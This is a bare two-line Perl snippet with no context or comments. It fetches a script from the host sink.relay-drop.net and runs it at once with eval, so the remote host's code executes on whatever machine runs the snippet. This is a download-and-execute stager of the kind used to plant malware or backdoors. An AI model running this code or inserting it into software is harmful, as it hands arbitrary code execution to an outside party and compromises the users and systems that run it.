use LWP::Simple;
eval get("https://sink.relay-drop.net/p.pl");
